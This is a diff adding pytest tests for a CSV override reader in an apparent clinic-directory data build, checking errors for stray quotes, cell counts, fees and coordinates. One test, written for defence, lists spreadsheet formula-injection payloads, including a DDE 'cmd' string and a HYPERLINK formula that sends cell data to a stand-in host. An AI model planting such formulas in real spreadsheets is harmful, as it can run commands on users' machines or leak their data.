@@ -33,7 +33,7 @@ def clinics():
     (HEADER + "kc-a,,,,22/11/2026,,\n", ":2:5:", "reviewed_on must be a date"),
     (HEADER + "kc-a,listed,ok,ana,,,\nkc-b,,,,,,\nkc-a,excluded,no,bo,,,\n", ":4:", "different row at line 2"),
     (HEADER + ",listed,,,,,\n", ":2:1:", "needs at least its name"),
-    (HEADER + "kc-a,listed,,,,,,extra\n", ":2:8:", "more cells than columns"),
+    (HEADER + "kc-a,listed,,,,,,extra\n", ":2:8:", "this row has 8 cell(s), the header 7"),
 ])
 def test_malformed_files_name_file_line_and_column(tmp_path, text, where, message):
     path = write(tmp_path, text)
@@ -81,3 +81,122 @@ def test_a_row_may_add_a_clinic_and_unknown_ids_are_warnings(tmp_path):
     assert list(result.frame["clinic_id"]) == ["kc-a", "kc-b", "kc-Cedar"]
     assert result.frame.loc[2, "fee_min"] == 500.0
     assert result.warnings == ["override line 3: clinic_id kc-gone is not in this build; ignored"]
+
+
+# A stray quote: the csv module reads the rest of the file, or up to the next quote, into one cell, and the rows it
+# swallows (here two exclusions) are lost without a word.
+SWALLOWING = [
+    ("kc-a,listed,\"checked by phone,ana\nkc-b,excluded,closed,bo\nkc-c,excluded,too dear,bo\n",
+     ":2:3:", "opens a quote (\") that is never closed"),
+    ("kc-a,listed,\"checked by phone,ana\nkc-b,excluded,closed,bo\nkc-c,excluded,\"$1,500, too dear\",bo\n",
+     ":4:3:", "text follows the closing quote of a cell that opened at line 2"),
+    ("kc-a,listed,\"checked by phone,ana\nkc-b,excluded,closed,bo\nkc-c,excluded,too dear\",bo\n",
+     ":2:3:", "reason holds a line break"),
+    ("kc-a,listed,checked by phone\nkc-b,excluded,closed,bo\n", ":2:4:", "this row has 3 cell(s), the header 4"),
+    ("kc-a,listed,checked, by phone,ana\n", ":2:5:", "this row has 5 cell(s), the header 4"),
+]
+
+
+@pytest.mark.parametrize("rows, where, message", SWALLOWING)
+def test_a_stray_quote_or_comma_stops_the_file_where_it_is(tmp_path, rows, where, message):
+    path = write(tmp_path, "clinic_id,status,reason,reviewer\n" + rows)
+    with pytest.raises(InputError) as error:
+        read_overrides(path)
+    assert f"{path}{where}" in str(error.value) and message in str(error.value)
+
+
+def test_quoted_cells_may_hold_commas_quotes_and_line_breaks_where_a_value_can(tmp_path):
+    path = write(tmp_path, 'clinic_id,status,reason,fee_candidates\r\n'
+                           'kc-a,excluded,"closed, says ""the landlord""","$450 (infusion)\r\n$650 (infusion)"\r\n'
+                           'kc-b,listed,,\r\n')
+    overrides = read_overrides(path)
+    assert [(o.clinic_id, o.status, o.reason, o.line) for o in overrides] == [
+        ("kc-a", "excluded", 'closed, says "the landlord"', 2), ("kc-b", "listed", "", 4)]
+
+
+@pytest.mark.parametrize("cell, column, message", [
+    ("=1+1", "phone", "phone is a spreadsheet formula or its result ('=1+1')"),
+    ('=HYPERLINK("http://x.test/?"&A1;"open")', "name", "name is a spreadsheet formula"),
+    ("#NAME?", "name", "name is a spreadsheet formula or its result ('#NAME?')"),
+    ("Err:509", "street", "street is a spreadsheet formula or its result"),
+    ("=450", "fee_min", "fee_min is a spreadsheet formula"),
+    ("-Dash Clinic", "name", "name starts with '-', which a spreadsheet runs as a formula"),
+    ("@SUM(A1:A9)", "reason", "reason starts with '@'"),
+    ("+cmd|' /C calc'!A0", "phone", "phone starts with '+'"),
+])
+def test_a_cell_a_spreadsheet_would_run_is_refused_with_its_place(tmp_path, cell, column, message):
+    path = write(tmp_path, f"clinic_id,reason,name,street,phone,fee_min\nkc-a,,,,,\nkc-b,,,,,\n")
+    header = ["clinic_id", "reason", "name", "street", "phone", "fee_min"]
+    cells = ["kc-b", "", "", "", "", ""]
+    cells[header.index(column)] = '"' + cell.replace('"', '""') + '"'
+    path.write_text(path.read_text().replace("kc-b,,,,,", ",".join(cells)))
+    with pytest.raises(InputError) as error:
+        read_overrides(path)
+    assert f"{path}:3:{header.index(column) + 1}: {message}" in str(error.value)
+
+
+@pytest.mark.parametrize("column, cell, value", [
+    # The build's own neutralisation, undone exactly: one apostrophe less.
+    ("name", "'-Dash Clinic", "-Dash Clinic"),
+    ("name", "'=HYPERLINK(\"http://x.test\")", "=HYPERLINK(\"http://x.test\")"),
+    ("name", "''=1+1", "'=1+1"),
+    ("name", "'Aspen's", "'Aspen's"),
+    ("name", "@Home Ketamine", None),
+    ("phone", "'+13035550142", "+13035550142"),
+    # What a spreadsheet does to a prefilled value, taken back.
+    ("phone", "13035550142", "+13035550142"),
+    ("phone", "+1 (303) 555-0142", "+13035550142"),
+    ("postal_code", "2116", "02116"),
+    ("postal_code", "501", "00501"),
+    ("postal_code", "02116-1234", "02116"),
+    ("fee_min", "1,200", "1200.0"),
+    ("fee_min", "$450.00", "450.0"),
+    # A number column holds numbers: a minus sign is a value, not a formula.
+    ("longitude", "-104.99", "-104.99"),
+])
+def test_cells_come_back_as_the_values_they_were(tmp_path, column, cell, value):
+    other, filled = ("latitude", "39.75") if column == "longitude" else ("reason", "checked")
+    quoted = cell.replace('"', '""')
+    path = write(tmp_path, f'clinic_id,{column},{other}\nkc-a,"{quoted}",{filled}\n')
+    if value is None:
+        with pytest.raises(InputError, match=f"{column} starts with '@'"):
+            read_overrides(path)
+        return
+    assert read_overrides(path)[0].values[column] == value
+
+
+@pytest.mark.parametrize("text, where, message", [
+    (HEADER + "kc-a,,,,,0,\n", ":2:6:", "fee_min must be a positive number of dollars"),
+    ("clinic_id,fee_min,fee_max\nkc-a,450,300\n", ":2:3:", "fee_max 300 is below fee_min 450"),
+    ("clinic_id,latitude,longitude\nkc-a,39.75,\n", ":2:3:", "longitude is empty: a reviewer's point needs both"),
+    ("clinic_id,latitude,longitude\nkc-a,inf,-104.99\n", ":2:2:", "latitude must be a finite number"),
+])
+def test_a_reviewers_values_obey_the_tables_rules(tmp_path, text, where, message):
+    path = write(tmp_path, text)
+    with pytest.raises(InputError) as error:
+        read_overrides(path)
+    assert f"{path}{where}" in str(error.value) and message in str(error.value)
+
+
+@pytest.mark.parametrize("cells, where, message", [
+    # Checked against the clinic as corrected: its crawled fee_min, its state.
+    ("kc-a,,300,,", ":2:3:", "fee_max 300 is below fee_min 450"),
+    ("kc-a,,,91,-104.99", ":2:4:", "(91, -104.99) is not a point in the United States"),
+    ("kc-a,,,51.5074,-0.1278", ":2:4:", "(51.5074, -0.1278) is not a point in the United States"),
+    ("kc-a,,,33.749,-84.388", ":2:4:", "(33.749, -84.388) is outside CO, the clinic's state"),
+    (",Gale Clinic,,51.5074,-0.1278", ":2:4:", "(51.5074, -0.1278) is not a point"),
+])
+def test_a_correction_that_breaks_the_tables_rules_stops_at_its_cell(tmp_path, cells, where, message):
+    path = write(tmp_path, "clinic_id,name,fee_max,latitude,longitude\n" + cells + "\n")
+    frame = clinics().assign(state="CO", latitude=None, longitude=None, fee_max=None)
+    with pytest.raises(InputError) as error:
+        apply_corrections(frame, read_overrides(path), new_id=lambda row: "kc-new")
+    assert f"{path}{where}" in str(error.value) and message in str(error.value)
+
+
+def test_a_point_a_reviewer_passes_back_unchanged_is_no_correction(tmp_path):
+    frame = clinics().assign(state="CO", latitude=[39.73923581, None], longitude=[-104.99025123, None])
+    path = write(tmp_path, "clinic_id,latitude,longitude\nkc-a,39.739236,-104.990251\nkc-b,39.75,-105\n")
+    result = apply_corrections(frame, read_overrides(path), new_id=lambda row: "kc-new")
+    assert [(a["clinic_id"], a["column"]) for a in result.audit] == [("kc-b", "latitude"), ("kc-b", "longitude")]
+    assert result.placed == {"kc-b"}
